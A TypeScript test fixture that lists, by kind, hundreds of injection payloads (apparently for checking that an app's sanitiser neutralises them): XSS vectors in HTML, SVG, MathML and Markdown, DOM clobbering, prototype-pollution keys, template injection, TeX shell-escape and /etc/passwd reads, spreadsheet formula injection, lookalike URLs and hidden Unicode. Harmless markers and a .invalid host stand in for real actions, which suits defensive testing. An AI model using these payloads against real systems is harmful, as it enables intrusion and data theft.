/** A text that tries to be more than text. */
export interface Payload {
  /** What it tries, in words. */
  readonly kind: string;
  readonly text: string;
}

/** Where payloads try to fetch from. No name ever exists below `.invalid`. */
export const FETCHED_FROM = 'fetched.invalid';

/** Ids and names that would shadow what a page's own scripts look up. */
export const CLOBBERED_NAMES: readonly string[] = [
  ...['attributes', 'innerHTML', 'parentNode', 'getElementById', 'querySelector', 'createElement', 'body'],
  ...['head', 'location', 'document', 'defaultView', 'pandect', 'indexedDB', '__proto__', 'top', 'self'],
];

// RUN is replaced by script that sets the planted global, URL by an address that is the payload's own.

const SCRIPTS = [
  '<script>RUN</script>',
  '<SCRIPT >RUN</SCRIPT >',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script/x>RUN</script>',
  '<script\u000c>RUN</script>',
  '<script src="URL"></script>',
  '<script src=//fetched.invalid/x></script>',
  '<script type=module>import "URL"</script>',
  '<script type=importmap>{"imports":{"react":"URL"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["URL"]}]}</script>',
  '"><script>RUN</script>',
  "'><script>RUN</script>",
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</style><script>RUN</script>',
  '</script><script>RUN</script>',
  '--><script>RUN</script>',
  ']]><script>RUN</script>',
  '<!--><script>RUN</script>-->',
  '<template><script>RUN</script></template><script>RUN</script>',
  '<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>',
  '<noscript><p title="</noscript><script>RUN</script>">',
];

const HANDLERS = [
  '<img src=x onerror=RUN>',
  '<img/src=x/onerror=RUN>',
  '<IMG SRC=x OnErRoR=RUN>',
  '<img src=x\tonerror=RUN>',
  '<img src=`x`onerror=RUN>',
  '<img src=x:x onerror="RUN"//>',
  '" onmouseover=RUN autofocus onfocus=RUN x="',
  "' onfocus=RUN autofocus tabindex=1 x='",
  '<body onload=RUN>',
  '<svg onload=RUN>',
  '<svg/onload=RUN//',
  '<details open ontoggle=RUN><summary>x</summary></details>',
  '<video src=x onerror=RUN></video>',
  '<video><source src=x onerror=RUN></video>',
  '<audio src=x onerror=RUN></audio>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN></select>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<marquee onstart=RUN>x</marquee>',
  '<iframe onload=RUN></iframe>',
  '<object data=x onerror=RUN></object>',
  '<embed src=x onerror=RUN>',
  '<style onload=RUN></style>',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<a href=# onclick=RUN>x</a>',
  '<a href=# onpointerenter=RUN>x</a>',
  '<div onwheel=RUN onscroll=RUN>x</div>',
  '<div style="animation:spin 1s" onanimationstart=RUN>x</div>',
  '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=RUN>y</div>',
  '<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>',
  '<form oninput=RUN><input></form>',
  '<p oncopy=RUN oncut=RUN onpaste=RUN contenteditable>x</p>',
  '<x-y tabindex=1 autofocus onfocus=RUN>x</x-y>',
];

const ADDRESSES = [
  '<a href="javascript:RUN">x</a>',
  '<a href="JaVaScRiPt:RUN">x</a>',
  '<a href="java\tscript:RUN">x</a>',
  '<a href="&#106;avascript&colon;RUN">x</a>',
  '<a href="\u0001javascript:RUN">x</a>',
  '<a href="vbscript:RUN">x</a>',
  '<a href="data:text/html,<script>RUN</script>">x</a>',
  '<a href="view-source:javascript:RUN">x</a>',
  '<a href="blob:javascript:RUN">x</a>',
  '<area href="javascript:RUN">',
  '<form action="javascript:RUN"><button>x</button></form>',
  '<button formaction="javascript:RUN">x</button>',
  '<input type=image formaction="javascript:RUN" src=x>',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<base href="javascript:/a/-RUN///">',
  '<img src="javascript:RUN">',
  '<a href="javascript:void(RUN)" ping="URL">x</a>',
  'javascript:RUN',
  'javascript://https://example.org/%0aRUN',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
];

const GRAPHICS = [
  '<svg><script>RUN</script></svg>',
  '<svg><script href="URL"/></svg>',
  '<svg><a xlink:href="javascript:RUN"><text y=9>x</text></a></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>',
  '<svg><a><animate attributeName=href values="javascript:RUN"/><text y=9>x</text></a></svg>',
  '<svg><set onbegin=RUN attributeName=x></svg>',
  '<svg><use href="URL#x"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"/></svg>',
  '<svg><image href="URL"/></svg>',
  '<svg><image href=x onerror=RUN /></svg>',
  '<svg><filter><feImage href="URL"/></filter></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
  '<svg><style>@import "URL";</style></svg>',
  '<svg><title><style><img src=x onerror=RUN></style></title></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "URL">]><svg>&y;</svg>',
];

const FORMULAS = [
  '<math href="javascript:RUN">x</math>',
  '<math><mtext><img src=x onerror=RUN></mtext></math>',
  '<math><maction actiontype="statusline#URL" xlink:href="javascript:RUN">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
];

const FRAMES = [
  '<iframe src="URL"></iframe>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>',
  '<frameset><frame src="URL"></frameset>',
  '<object data="URL" type="text/html"></object>',
  '<embed src="URL" type="text/html">',
  '<fencedframe src="URL"></fencedframe>',
  '<portal src="URL"></portal>',
];

const HEADS = [
  '<meta http-equiv=refresh content="0;url=URL">',
  '<meta http-equiv="refresh" content="0;javascript:RUN">',
  '<meta http-equiv=Content-Security-Policy content="default-src *">',
  '<meta name=referrer content=unsafe-url><img src="URL">',
  '<base href="URL">',
  '<base target=_top>',
  '<link rel=stylesheet href="URL">',
  '<link rel=prefetch href="URL">',
  '<link rel=preload as=script href="URL">',
  '<link rel=modulepreload href="URL">',
  '<link rel=dns-prefetch href="URL">',
  '<link rel=preconnect href="URL">',
  '<link rel=manifest href="URL">',
  '<link rel=icon href="URL">',
];

const STYLES = [
  '<style>@import "URL";</style>',
  '<style>*{background:url("URL")}</style>',
  '<style>@font-face{font-family:x;src:url("URL")}*{font-family:x}</style>',
  '<style>input[value^="a"]{background:url("URL")}</style>',
  '<style>*{display:none!important}</style>',
  '<div style="background:url(URL)">x</div>',
  '<div style="background-image:image-set(\'URL\' 1x)">x</div>',
  '<div style="list-style-image:url(URL);display:list-item">x</div>',
  '<div style="cursor:url(URL),auto">x</div>',
  '<div style="content:url(URL)">x</div>',
  '<div style="width:expression(RUN)">x</div>',
  '<div style="-moz-binding:url(URL#x);behavior:url(URL)">x</div>',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session ended</div>',
  '"; background: url(URL); x: "',
];

const FETCHERS = [
  '<img src="URL">',
  '<img srcset="URL 1x">',
  '<img src=//fetched.invalid/x>',
  '<picture><source srcset="URL"><img></picture>',
  '<video poster="URL"></video>',
  '<video src="URL" autoplay></video>',
  '<audio src="URL" autoplay></audio>',
  '<video><track default src="URL"></video>',
  '<input type=image src="URL">',
  '<body background="URL">',
  '<table background="URL"><tr><td background="URL">x</table>',
  '<image src="URL">',
  '<a href="https://example.org/" ping="URL">x</a>',
  '<form action="URL" method=post><button autofocus>x</button></form>',
];

const TEMPLATES = [
  '{{constructor.constructor("RUN")()}}',
  "{{$on.constructor('RUN')()}}",
  '{{7*7}}[[7*7]]{%7*7%}',
  '${RUN}',
  '`${RUN}`',
  '#{RUN}',
  '<%= RUN %>',
  '<?php RUN ?>',
  '*{T(java.lang.Runtime).getRuntime().exec("x")}',
  '<div ng-app ng-init="constructor.constructor(\'RUN\')()">x</div>',
  '<div x-data x-init="RUN">x</div>',
  '<div v-html="RUN">x</div>',
  '<div hx-get="URL" hx-trigger=load>x</div>',
  '<div data-bind="html: RUN">x</div>',
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"RUN"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
  '</script><script>self.__next_f.push([1,"RUN"])</script>',
  "');RUN;('",
  '";RUN;"',
  '\\";RUN;//',
];

const CLOBBERING = [
  '<form id=__proto__><input name=attributes></form>',
  '<form><input name=innerHTML><input name=parentNode></form>',
  '<img name=getElementById><img name=querySelector>',
  '<img name=createElement><img name=body><img name=head>',
  '<a id=location href="javascript:RUN">x</a>',
  '<a id=defaultView></a><a id=defaultView name=x href=1>x</a>',
  '<a id=pandect></a><a id=pandect name=call href="javascript:RUN">x</a>',
  '<iframe name=top srcdoc="<a id=x></a>"></iframe>',
  '<iframe name=self src="javascript:RUN"></iframe>',
  '<object id=indexedDB></object>',
  '<embed name=document>',
];

const PROTOTYPE_KEYS = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__'],
  ...['toJSON', 'then', 'length', 'undefined', 'null', 'NaN', 'true', '-1', '[object Object]'],
  '{"__proto__":{"ran":true}}',
  '__proto__[ran]=1',
  'constructor.prototype.ran=1',
];

const HIDDEN = [
  '\u202egnp.exe\u202c',
  '\u202eelif.txt',
  'a\u2066b\u2067c\u2068d',
  '\u200fright\u200eleft\u061c',
  'pass\u200bword\u200c\u200d\u2060',
  '\ufeffbom\ufeff',
  'soft\u00adhyphen',
  'tags\u{e0041}\u{e0042}\u{e007f}',
  'bell\u0007 backspace\b delete\u007f',
  'escape\u001b[31mred\u001b[2J',
  '\u001b]8;;URL\u0007link\u001b]8;;\u0007',
  'c1\u009b31m\u0090x\u009c',
  'nul\u0000nul',
  'lines\u2028and\u2029paragraphs\u0085next',
  'variation\ufe0f\ufe0e\u{e0100}',
  'x\ud800y\udc00z',
  'interlinear\ufff9a\ufffab\ufffb',
  `zalgo${'\u0300\u0301\u0489'.repeat(200)}`,
];

const TEX = [
  '\\input{/etc/passwd}',
  '\\include{|"RUN"}',
  '\\write18{touch pwned}',
  '\\immediate\\write18{touch pwned}',
  '\\openin5=/etc/passwd\\read5 to\\x',
  '\\catcode`\\%=12 \\def\\x{\\x}\\x',
  '\\csname input\\endcsname{/etc/passwd}',
  '\\directlua{os.execute("touch pwned")}',
  '^^5cinput{/etc/passwd}',
  '\\href{javascript:RUN}{x}',
  '\\special{ps: (x) run}',
  '\\end{document}',
  '}}}\n@misc{evil, title={x}}',
  '} @preamble{"\\input{x}"} {',
  '" # evil # "',
  '@string{jan="evil"}@comment{',
  '% the rest is a comment',
  '$\\unicode{<img src=x onerror=RUN>}$',
];

const MARKDOWN = [
  '[x](javascript:RUN)',
  '[x](JaVaScRiPt&colon;RUN)',
  '[x](<javascript:RUN>)',
  '[x](\u0001javascript:RUN)',
  '[x](data:text/html,<script>RUN</script>)',
  '[x](vbscript:RUN)',
  '[x](https://example.org/" onmouseover="RUN)',
  "[x](https://example.org/ 'x' onmouseover=RUN)",
  '[x](https://example.org/"><img src=x onerror=RUN>)',
  '[x][y]\n\n[y]: javascript:RUN',
  '![x](URL)',
  '![x](URL "onerror=RUN")',
  '![x](javascript:RUN)',
  '![" onerror="RUN](x)',
  '![x][y]\n\n[y]: URL',
  '[![x](URL)](https://example.org)',
  '<javascript:RUN>',
  '`<img src=x onerror=RUN>`',
  '```html\n<img src=x onerror=RUN>\n```',
  '```"><img src=x onerror=RUN>\nx\n```',
  '| <img src=x onerror=RUN> | y |\n|---|---|\n| z | w |',
  '# <img src=x onerror=RUN>',
  '- [ ] <img src=x onerror=RUN>',
  '~~<img src=x onerror=RUN>~~ **<b onclick=RUN>x</b>**',
  '<!-- --><img src=x onerror=RUN><!-- -->',
  '&lt;img src=x onerror=RUN&gt;',
  '&amp;lt;script&amp;gt;RUN',
];

const MUTATIONS = [
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=RUN>">',
  '<xmp><img alt="</xmp><img src=x onerror=RUN>"></xmp>',
  '<listing>&lt;img src=x onerror=RUN&gt;</listing>',
  '<noembed><img alt="</noembed><img src=x onerror=RUN>">',
  '<plaintext><img src=x onerror=RUN>',
  '<a href="<img src=x onerror=RUN>',
  '<b><i><u><table><tr><td>',
  `${'<div>'.repeat(600)}<img src=x onerror=RUN>`,
];

const LOOKALIKES = [
  'https://\u0430pple.example/login',
  'https://example.org@evil.invalid/',
  'https://user:password@evil.invalid/',
  'https://example.org%2f@evil.invalid/',
  'https://example.org\\@evil.invalid/',
  'https://example.org\u2044evil.invalid/',
  'https://xn--pple-43d.example/',
  'https://example.org/\u202egpj.exe',
  'http://127.0.0.1:22/',
  'https://[::1]/admin',
  'file:///etc/passwd',
  '\\\\evil.invalid\\share\\x.png',
  '//evil.invalid/x.png',
  'pandect://app/../secret.txt',
];

const TOO_MUCH = [
  'W'.repeat(5_000),
  '['.repeat(2_000),
  '('.repeat(2_000) + ')'.repeat(2_000),
  '*_'.repeat(1_000),
  '{'.repeat(1_000),
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}'.repeat(300),
  `https://example.org/${'a'.repeat(3_000)}`,
  "=cmd|'/C calc'!A0",
  '@SUM(1+1)*cmd|x',
];

const KINDS: Readonly<Record<string, readonly string[]>> = {
  'script element': SCRIPTS,
  'event handler': HANDLERS,
  'script address': ADDRESSES,
  SVG: GRAPHICS,
  MathML: FORMULAS,
  frame: FRAMES,
  'element of the head': HEADS,
  style: STYLES,
  'element that fetches': FETCHERS,
  template: TEMPLATES,
  'DOM clobbering': CLOBBERING,
  'prototype key': PROTOTYPE_KEYS,
  'hidden character': HIDDEN,
  TeX: TEX,
  Markdown: MARKDOWN,
  'mutating markup': MUTATIONS,
  'misleading address': LOOKALIKES,
  'too much': TOO_MUCH,
};

/**
 * Every payload once, always in the same order. Script in one sets `__ran` to its place in the list; what it fetches has
 * that place as its path.
 */
export const PAYLOADS: readonly Payload[] = Object.entries(KINDS)
  .flatMap(([kind, texts]) => texts.map(text => ({ kind, text })))
  .map(({ kind, text }, at) => ({
    kind,
    text: text.replaceAll('RUN', `__ran=${at}`).replaceAll('URL', `https://${FETCHED_FROM}/${at}`),
  }));
